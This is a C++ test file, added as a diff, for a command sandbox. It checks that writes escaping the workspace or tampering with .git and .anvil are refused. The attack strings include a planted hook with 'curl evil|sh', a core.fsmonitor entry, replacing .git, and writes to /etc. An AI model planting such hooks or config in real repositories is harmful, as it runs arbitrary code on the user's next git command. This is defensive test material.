@@ -1,0 +1,333 @@
+// T1 for the command sandbox, writes: under workspace-write a command changes the workspace
+// and nothing else — not a directory outside (even one the caller may write), not through a
+// planted symlink, not .git (hooks, config, replacing the directory) nor .anvil; the
+// read-only policy denies every write; --writable-git, --read-only-subpath and --writable-root
+// do what they say.
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cstdio>
+#include <string>
+#include <vector>
+
+#include "sandbox_harness.h"
+
+namespace anvil::testing {
+namespace {
+
+constexpr char kGitConfig[] = "[core]\n\trepositoryformatversion = 0\n";
+constexpr char kHook[] = "#!/bin/sh\nexit 0\n";
+
+class T1SandboxWrite : public CallerTest {
+ protected:
+  void SetUp() override {
+    CallerTest::SetUp();
+    if (IsSkipped()) return;
+    // World-writable (not sticky: fs.protected_regular would then refuse some writes by
+    // itself), so that for both callers only the sandbox refuses them.
+    chmod(outside_.path().c_str(), 0777);
+    WriteFile(outside_ / "target.txt", "original\n", 0666);
+    ws_ = outside_ / "ws";
+    ASSERT_EQ(mkdir(ws_.c_str(), 0755), 0);
+    ASSERT_EQ(mkdir((ws_ + "/.git").c_str(), 0755), 0);
+    ASSERT_EQ(mkdir((ws_ + "/.git/hooks").c_str(), 0755), 0);
+    ASSERT_EQ(mkdir((ws_ + "/.anvil").c_str(), 0755), 0);
+    WriteFile(ws_ + "/.git/config", kGitConfig);
+    WriteFile(ws_ + "/.git/HEAD", "ref: refs/heads/main\n");
+    WriteFile(ws_ + "/.git/hooks/pre-commit.sample", kHook, 0755);
+    WriteFile(ws_ + "/.anvil/grants.json", "{}\n");
+    WriteFile(ws_ + "/hello.txt", "benign\n");
+    caller_.Give(ws_);
+  }
+
+  RunResult Sh(const std::string& script, const std::vector<std::string>& flags = {}) {
+    return SandboxSh(ws_, script, flags, Opts());
+  }
+  // The protected files are exactly as the test made them.
+  void ExpectGitUntouched() {
+    EXPECT_EQ(ReadFile(ws_ + "/.git/config"), kGitConfig);
+    EXPECT_EQ(ReadFile(ws_ + "/.git/hooks/pre-commit.sample"), kHook);
+    EXPECT_FALSE(Exists(ws_ + "/.git/hooks/pre-commit"));
+    EXPECT_FALSE(Exists(ws_ + "/.git/hooks/post-checkout"));
+    EXPECT_EQ(ReadFile(ws_ + "/.anvil/grants.json"), "{}\n");
+  }
+
+  TempDir outside_{"anvil-outside", "/var/tmp"};
+  std::string ws_;
+};
+
+TEST_P(T1SandboxWrite, WriteOutsideWorkspaceIsDenied) {
+  auto benign = Sh("echo written > new.txt && echo more >> hello.txt && cat new.txt");
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(ReadFile(ws_ + "/new.txt"), "written\n");
+  EXPECT_EQ(ReadFile(ws_ + "/hello.txt"), "benign\nmore\n");
+
+  const std::string out = ShellQuote(outside_.path());
+  auto control = Sh("echo control > " + out + "/control", {"--policy", "danger-full-access"});
+  ASSERT_EQ(ReadFile(outside_ / "control"), "control\n")
+      << "control: unconfined, the caller can write outside; " << control.err;
+  // Runtime roots too; unique names, removed below should the sandbox ever fail open.
+  const std::string token = UniqueToken("anvil-pwned");
+  const std::vector<std::string> runtime = {"/usr/" + token, "/etc/" + token, "/dev/" + token};
+  auto attack = Sh("echo pwned > " + out + "/pwned-abs; echo pwned > ../pwned-dotdot; " +
+                   "echo pwned >> " + out + "/target.txt; echo pwned > /proc/self/root" + out +
+                   "/pwned-proc; mkdir ../pwned-dir; touch " + runtime[0] + " " + runtime[1] +
+                   "; echo pwned > " + runtime[2]);
+  EXPECT_NE(attack.status, 0);
+  for (const char* name : {"pwned-abs", "pwned-dotdot", "pwned-proc", "pwned-dir"}) {
+    EXPECT_FALSE(Exists(outside_ / name)) << name;
+  }
+  EXPECT_EQ(ReadFile(outside_ / "target.txt"), "original\n");
+  for (const auto& path : runtime) {
+    EXPECT_FALSE(Exists(path)) << path;
+    std::remove(path.c_str());
+  }
+}
+
+TEST_P(T1SandboxWrite, WriteThroughSymlinkInWorkspacePointingOutsideIsDenied) {
+  ASSERT_EQ(symlink(outside_.path().c_str(), (ws_ + "/out-dir").c_str()), 0);
+  ASSERT_EQ(symlink((outside_ / "target.txt").c_str(), (ws_ + "/out-file").c_str()), 0);
+  ASSERT_EQ(symlink("hello.txt", (ws_ + "/in-file").c_str()), 0);
+  caller_.Give(ws_);
+
+  auto benign = Sh("echo via-link >> in-file");
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(ReadFile(ws_ + "/hello.txt"), "benign\nvia-link\n");
+
+  auto attack =
+      Sh("echo pwned > out-dir/pwned; echo pwned >> out-file; echo pwned > out-file; "
+         "cp hello.txt out-dir/copied; mkdir out-dir/sub");
+  EXPECT_NE(attack.status, 0);
+  EXPECT_EQ(ReadFile(outside_ / "target.txt"), "original\n");
+  EXPECT_FALSE(Exists(outside_ / "pwned"));
+  EXPECT_FALSE(Exists(outside_ / "copied"));
+  EXPECT_FALSE(Exists(outside_ / "sub"));
+}
+
+TEST_P(T1SandboxWrite, WriteIntoGitHooksIsDenied) {
+  auto benign = Sh("cat .git/HEAD && ls .git/hooks && echo ok > src.txt");
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(benign.out, "ref: refs/heads/main\npre-commit.sample\n");
+  EXPECT_EQ(ReadFile(ws_ + "/src.txt"), "ok\n");
+
+  auto attack =
+      Sh("printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; "
+         "cp .git/hooks/pre-commit.sample .git/hooks/post-checkout; "
+         "echo evil >> .git/hooks/pre-commit.sample; "
+         "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit; "
+         "chmod 777 .git/hooks/pre-commit.sample; rm -rf .git/hooks");
+  EXPECT_NE(attack.status, 0);
+  ExpectGitUntouched();
+  struct stat st {};
+  ASSERT_EQ(stat((ws_ + "/.git/hooks/pre-commit.sample").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07777, 0755u);
+}
+
+TEST_P(T1SandboxWrite, WriteIntoGitConfigIsDenied) {
+  auto benign = Sh("grep -c repositoryformatversion .git/config");
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(benign.out, "1\n");
+
+  // core.fsmonitor / core.hooksPath run a program on the user's next `git status`.
+  auto attack =
+      Sh("printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; "
+         ": > .git/config; echo x > cfg.new && mv cfg.new .git/config; "
+         "rm -f .git/config; ln -sf /tmp/evil .git/config; "
+         "echo x > .git/info-attributes");
+  EXPECT_NE(attack.status, 0);
+  ExpectGitUntouched();
+  EXPECT_FALSE(Exists(ws_ + "/.git/info-attributes"));
+}
+
+TEST_P(T1SandboxWrite, WriteIntoAnvilStateDirIsDenied) {
+  auto benign = Sh("cat .anvil/grants.json");
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(benign.out, "{}\n");
+
+  auto attack =
+      Sh("echo '{\"grant\":\"all\"}' > .anvil/grants.json; echo x > .anvil/new; "
+         "rm -rf .anvil; mv .anvil anvil-old");
+  EXPECT_NE(attack.status, 0);
+  ExpectGitUntouched();
+  EXPECT_FALSE(Exists(ws_ + "/.anvil/new"));
+  EXPECT_FALSE(Exists(ws_ + "/anvil-old"));
+}
+
+TEST_P(T1SandboxWrite, RenamingOrRemovingGitToReplaceItIsDenied) {
+  auto attack =
+      Sh("mv .git .git-old; rm -rf .git; "
+         "mkdir -p fake/hooks && printf '#!/bin/sh\\nevil\\n' > fake/hooks/pre-commit && "
+         "mv -T fake .git; mv fake/hooks .git/hooks-new; "
+         "mkdir sub && mv .git sub/.git; ln -s fake .git-link && mv -T .git-link .git; "
+         "/usr/bin/python3 -c 'import os; os.rename(\"fake\", \".git\")'");
+  EXPECT_NE(attack.status, 0);
+  ExpectGitUntouched();
+  EXPECT_FALSE(Exists(ws_ + "/.git-old"));
+  EXPECT_FALSE(Exists(ws_ + "/sub/.git"));
+  EXPECT_FALSE(Exists(ws_ + "/.git/hooks-new"));
+  struct stat st {};
+  ASSERT_EQ(lstat((ws_ + "/.git").c_str(), &st), 0);
+  EXPECT_TRUE(S_ISDIR(st.st_mode)) << ".git must still be the original directory";
+  // Benign: the rest of the workspace stays fully writable, including renames and removals.
+  auto benign = Sh("mkdir -p d1 && mv d1 d2 && rm -rf d2 fake sub && echo done");
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_FALSE(Exists(ws_ + "/fake"));
+}
+
+TEST_P(T1SandboxWrite, HardLinkingProtectedGitConfigIntoWorkspaceDoesNotMakeItWritable) {
+  auto attack =
+      Sh("ln .git/config cfg-link && echo evil >> cfg-link; "
+         "ln .git/hooks/pre-commit.sample hook-link && echo evil >> hook-link");
+  EXPECT_NE(attack.status, 0);
+  ExpectGitUntouched();
+}
+
+TEST_P(T1SandboxWrite, ReplacingASymlinkedGitDirectoryIsDenied) {
+  // .git is a symlink to the real git dir (a layout some tools use). The protection must hold
+  // for the name `.git`, not only for the directory it happens to point at now: replacing
+  // the link with a fresh .git carrying hooks gets code run by the user's next `git commit`.
+  TempDir ws2("anvil-ws-gitlink");
+  ASSERT_EQ(mkdir((ws2 / "real-git").c_str(), 0755), 0);
+  ASSERT_EQ(mkdir((ws2 / "real-git/hooks").c_str(), 0755), 0);
+  WriteFile(ws2 / "real-git/config", kGitConfig);
+  WriteFile(ws2 / "real-git/HEAD", "ref: refs/heads/main\n");
+  ASSERT_EQ(symlink("real-git", (ws2 / ".git").c_str()), 0);
+  caller_.Give(ws2.path());
+
+  // The link itself is a plain, replaceable entry of the writable workspace: the sandbox
+  // refuses to start (125) rather than run with a .git it cannot keep read-only.
+  auto replace = SandboxSh(ws2.path(),
+                           "echo ran > ran.txt; rm .git && mkdir -p .git/hooks && "
+                           "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit",
+                           {}, Opts());
+  EXPECT_EQ(replace.status, 125) << replace.err;
+  EXPECT_NE(replace.err.find("symbolic link"), std::string::npos) << replace.err;
+  EXPECT_FALSE(Exists(ws2 / "ran.txt")) << "the command ran although .git could not be protected";
+  struct stat st {};
+  ASSERT_EQ(lstat((ws2 / ".git").c_str(), &st), 0);
+  EXPECT_TRUE(S_ISLNK(st.st_mode)) << "the .git symlink was replaced from inside the sandbox";
+  EXPECT_FALSE(Exists(ws2 / "real-git/hooks/pre-commit"));
+
+  // Benign: the user who accepts a writable .git (--writable-git) can run in that workspace.
+  auto benign = SandboxSh(ws2.path(), "cat .git/HEAD && echo ok > file.txt", {"--writable-git"},
+                          Opts());
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(benign.out, "ref: refs/heads/main\n");
+}
+
+TEST_P(T1SandboxWrite, WritableGitFlagMakesGitWritableButNotAnvil) {
+  auto result = Sh("echo '[user]' >> .git/config && printf '#!/bin/sh\\n' > .git/hooks/pre-push",
+                   {"--writable-git"});
+  EXPECT_EQ(result.status, 0) << result.err;
+  EXPECT_EQ(ReadFile(ws_ + "/.git/config"), std::string(kGitConfig) + "[user]\n");
+  EXPECT_TRUE(Exists(ws_ + "/.git/hooks/pre-push"));
+
+  auto anvil_state = Sh("echo x > .anvil/new", {"--writable-git"});
+  EXPECT_NE(anvil_state.status, 0);
+  EXPECT_FALSE(Exists(ws_ + "/.anvil/new"));
+}
+
+TEST_P(T1SandboxWrite, ReadOnlySubpathIsEnforced) {
+  ASSERT_EQ(mkdir((ws_ + "/vendor").c_str(), 0755), 0);
+  ASSERT_EQ(mkdir((ws_ + "/keys").c_str(), 0755), 0);
+  WriteFile(ws_ + "/vendor/lib.c", "int lib;\n");
+  WriteFile(ws_ + "/keys/k", "key\n");
+  caller_.Give(ws_);
+
+  auto attack =
+      Sh("echo evil >> vendor/lib.c; echo evil > vendor/new.c; rm vendor/lib.c; "
+         "mv vendor vendor2; echo evil > keys/k",
+         {"--read-only-subpath", "vendor", "--read-only-subpath", ws_ + "/keys"});
+  EXPECT_NE(attack.status, 0);
+  EXPECT_EQ(ReadFile(ws_ + "/vendor/lib.c"), "int lib;\n");
+  EXPECT_FALSE(Exists(ws_ + "/vendor/new.c"));
+  EXPECT_FALSE(Exists(ws_ + "/vendor2"));
+  EXPECT_EQ(ReadFile(ws_ + "/keys/k"), "key\n");
+
+  auto benign = Sh("cat vendor/lib.c keys/k && echo ok > main.c",
+                   {"--read-only-subpath", "vendor", "--read-only-subpath", ws_ + "/keys"});
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(benign.out, "int lib;\nkey\n");
+  EXPECT_EQ(ReadFile(ws_ + "/main.c"), "ok\n");
+}
+
+TEST_P(T1SandboxWrite, ReadOnlySubpathThatDoesNotExistYetRefusesToStart) {
+  // docs/policy.md: a path that does not exist cannot be protected, so Anvil refuses to start
+  // rather than let CMD create it and own the path it was told to keep read-only.
+  auto attack = Sh("echo ran > ran.txt; mkdir -p secrets && echo evil > secrets/planted",
+                   {"--read-only-subpath", "secrets"});
+  EXPECT_EQ(attack.status, 125) << attack.err;
+  EXPECT_FALSE(Exists(ws_ + "/ran.txt")) << "refused to start, yet the command ran";
+  EXPECT_FALSE(Exists(ws_ + "/secrets"));
+  // The benign side (an existing subpath, the rest writable) is ReadOnlySubpathIsEnforced.
+}
+
+TEST_P(T1SandboxWrite, ReadOnlyPolicyDeniesEveryWriteInWorkspace) {
+  ASSERT_EQ(mkdir((ws_ + "/dir").c_str(), 0755), 0);
+  caller_.Give(ws_);
+  auto benign =
+      Sh("cat hello.txt && ls dir && grep -c benign hello.txt", {"--policy", "read-only"});
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(benign.out, "benign\n1\n");
+
+  const std::vector<std::string> attacks = {
+      "echo x > new.txt",    "echo x >> hello.txt", ": > hello.txt",          "rm hello.txt",
+      "mkdir newdir",        "rmdir dir",           "mv hello.txt moved.txt", "touch hello.txt",
+      "chmod 600 hello.txt", "ln -s hello.txt sym", "ln hello.txt hard",      "mkfifo fifo",
+      "echo x > dir/new.txt"};
+  struct stat before {};
+  ASSERT_EQ(stat((ws_ + "/hello.txt").c_str(), &before), 0);
+  // One sandbox, every write tried in its own subshell; each one that succeeds is reported.
+  std::string script;
+  for (const auto& attack : attacks) {
+    script += "(" + attack + ") 2>/dev/null && echo " + ShellQuote("ALLOWED: " + attack) + "; ";
+  }
+  auto result = Sh(script + "true", {"--policy", "read-only"});
+  EXPECT_EQ(result.status, 0) << result.err;
+  EXPECT_EQ(result.out, "") << "the read-only policy allowed writes:\n" << result.out;
+  struct stat after {};
+  ASSERT_EQ(stat((ws_ + "/hello.txt").c_str(), &after), 0);
+  EXPECT_EQ(ReadFile(ws_ + "/hello.txt"), "benign\n");
+  EXPECT_EQ(after.st_mode, before.st_mode);
+  EXPECT_EQ(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
+  EXPECT_EQ(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
+  for (const char* name :
+       {"new.txt", "newdir", "moved.txt", "sym", "hard", "fifo", "dir/new.txt"}) {
+    EXPECT_FALSE(Exists(ws_ + "/" + name)) << name;
+  }
+  EXPECT_TRUE(Exists(ws_ + "/dir"));
+}
+
+TEST_P(T1SandboxWrite, WritableRootAllowsWritesThereAndNowhereElse) {
+  TempDir cache("anvil-cache");
+  TempDir other("anvil-other");
+  chmod(other.path().c_str(), 0777);
+  ASSERT_EQ(mkdir((cache / ".git").c_str(), 0755), 0);
+  WriteFile(cache / ".git/config", kGitConfig);
+  caller_.Give(cache.path());
+
+  auto benign = Sh("echo cached > " + ShellQuote(cache / "blob") + " && mkdir " +
+                       ShellQuote(cache / "sub") + " && echo ws > ws.txt",
+                   {"--writable-root", cache.path()});
+  EXPECT_EQ(benign.status, 0) << benign.err;
+  EXPECT_EQ(ReadFile(cache / "blob"), "cached\n");
+  EXPECT_TRUE(Exists(cache / "sub"));
+  EXPECT_EQ(ReadFile(ws_ + "/ws.txt"), "ws\n");
+
+  auto attack = Sh("echo x > " + ShellQuote(other / "pwned") + "; echo x >> " +
+                       ShellQuote(cache / ".git/config"),
+                   {"--writable-root", cache.path()});
+  EXPECT_NE(attack.status, 0);
+  EXPECT_FALSE(Exists(other / "pwned"));
+  EXPECT_EQ(ReadFile(cache / ".git/config"), kGitConfig) << ".git is protected in every root";
+
+  auto without_flag = Sh("echo x > " + ShellQuote(cache / "blob2"));
+  EXPECT_NE(without_flag.status, 0);
+  EXPECT_FALSE(Exists(cache / "blob2"));
+}
+
+INSTANTIATE_TEST_SUITE_P(Callers, T1SandboxWrite, ::testing::ValuesIn(kAllCallers),
+                         CallerParamName);
+
+}  // namespace
+}  // namespace anvil::testing
